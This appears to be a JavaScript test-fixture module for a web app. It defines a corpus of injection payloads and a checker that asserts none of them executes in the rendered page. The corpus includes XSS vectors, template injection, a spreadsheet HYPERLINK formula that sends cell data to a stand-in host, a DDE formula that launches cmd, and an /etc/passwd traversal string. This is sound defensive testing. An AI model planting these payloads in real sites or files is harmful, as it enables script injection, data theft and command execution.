// What an attacker writes where a name, a label or an answer is expected, and how one sees that it did nothing. A script
// that runs says so in the console, where every test of the web app fails for it.
import assert from 'node:assert/strict'

const run = "console.error('a script ran')"

export const corpus = {
  script: `<script>${run}</script>`,
  handler: `<img src=x onerror="${run}">`,
  attribute: `" onfocus="${run}" autofocus x="`,
  quote: `' onmouseover='${run.replaceAll("'", '`')}' x='`,
  url: `javascript:${run}//https://x.example`,
  svg: `<svg/onload=${run}><animate onbegin=${run} attributeName=x dur=1s>`,
  frame: `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  link: `[a](javascript:${run}) ![b](http://elsewhere.example/x.png)`,
  data: `[c](data:text/html,<script>${run}</script>) <http://elsewhere.example>`,
  mutation: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  raw: `</textarea></title></style></script><script>${run}</script>`,
  page: `<base href="http://elsewhere.example/"><meta http-equiv=refresh content="0;url=http://elsewhere.example/"><style>*{display:none}</style>`,
  template: `{{constructor.constructor("${run}")()}} \${${run}} <%= 7*7 %> #{7*7}`,
  entities: `&lt;img src=x onerror=${run}&gt; &#x3C;script&#x3E;${run}&#x3C;/script&#x3E;`,
  backwards: '\u202Egnirts a\u202C \u2066isolated',
  long: 'W'.repeat(250),
  combining: 'Z' + '\u0335\u0321\u0300'.repeat(30),
  formula: '=HYPERLINK("http://elsewhere.example?x="&A1,"x")',
  command: "@SUM(1+1)*cmd|' /C calc'!A0",
  path: '../../../../etc/passwd %2e%2e%2f?a=b&c=d#e',
}

/** What only an answer or a prompt can hold: names are refused with it. */
export const raw = {
  terminal: '\u001b[31mred\u001b[0m \u001b]0;title\u0007',
  control: 'a\u0001b\u0008c',
}

/** As hostile as an e-mail address can be that the gateway takes: no brackets, but quotes, formulas and what turns a text round. */
export const addresses = {
  quote: "'onmouseover=`a`@example.com",
  template: '{{7*7}}${7*7}@example.com',
  formula: "=1+1|'/c@example.com",
  entity: '&lt&#60@example.com',
  query: '/x?a=b&c#d%2f@example.com',
  backwards: '\u202Egnirts@example.com',
  combining: 'z' + '\u0335\u0321\u0300'.repeat(20) + '@example.com',
  long: 'w'.repeat(200) + '@example.com',
}

/** A function that gives one text after the other, cut to what a place takes, and remembers which place got which. */
export function speech(texts, from = 0) {
  const said = new Map()
  let next = from
  const say = (what, most) => {
    if (!said.has(what)) said.set(what, [...texts[next++ % texts.length]].slice(0, most).join('').trim())
    return said.get(what)
  }
  return { say, said }
}

/** Waits until the text stands in the page as it was written, be it in a field. */
export async function written(page, text) {
  await page.waitForFunction((wanted) => {
    const flat = (s) => s.replace(/\s+/g, ' ').trim()
    const fields = [...document.querySelectorAll('input, textarea')].map((f) => f.value)
    return [document.body.textContent, ...fields].some((s) => flat(s).includes(flat(wanted)))
  }, text).catch((e) => Promise.reject(new Error(`“${text}” is not on ${page.url()}`, { cause: e })))
}

/** Nothing in the page runs, leads or loads anything that a text asked for. */
export async function harmless(page) {
  const found = await page.evaluate(() => {
    const elements = [...document.querySelectorAll('*')]
    const runs = elements.filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name) || /^\s*(javascript|vbscript|data:text)/i.test(a.value) && /^(href|src|action|formaction|xlink:href)$/i.test(a.name)))
    const strange = elements.filter((e) => e.matches('iframe, object, embed, base, meta[http-equiv], math, animate, body script, body style, body link, img:not([src^="data:image/"]):not([src^="/"])'))
    const loose = elements.filter((e) => e.matches('a[target=_blank]:not([rel~=noopener])'))
    return [...runs, ...strange, ...loose].map((e) => e.outerHTML.slice(0, 200))
  })
  assert.deepEqual(found, [], page.url())
}
